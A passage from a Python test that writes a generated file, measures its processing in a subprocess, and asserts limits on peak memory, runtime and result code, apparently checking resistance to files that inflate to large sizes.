    path.write_bytes(data)
    del data
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(path), file_name], capture_output=True, text=True, timeout=300, cwd=REPO
    )
    assert done.returncode == 0, done.stderr[-3000:]
    out = json.loads(done.stdout.strip().splitlines()[-1])
    out.update(file_mb=round(path.stat().st_size / 2**20, 2), inflated_gb=round(inflated / 2**30, 2))
    MEASURED[name] = out
    print(f"\n{name}: {json.dumps(out)}")
    assert out["code"] == (code.value if code else None), out
    assert out["rss_peak_mb"] < RSS_BOUND_MB, out
    assert out["seconds"] < 60, out
